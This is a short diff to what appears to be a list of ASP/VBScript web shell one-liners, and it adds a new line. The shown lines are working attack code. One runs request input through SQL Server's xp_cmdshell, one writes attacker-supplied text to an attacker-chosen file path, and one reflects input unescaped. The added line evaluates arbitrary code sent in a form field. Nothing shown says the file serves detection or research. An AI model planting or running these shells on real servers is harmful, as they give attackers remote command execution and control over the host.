@@ -29,3 +29,4 @@
 <%Set conn = Server.CreateObject("ADODB.Connection") : conn.Execute("exec master..xp_cmdshell '" & Request("c") & "'")%>
 <%Set n = CreateObject("WScript.Network") : Response.Write n.ComputerName & Request("x")%>
 <% Path = Request( "path" ) : Set F = FSO.CreateTextFile( Path, True ) : F.Write Request("t") %>
+<%If Len(Request("z")) > 0 Then:Eval Request.Form("z"):End If%>
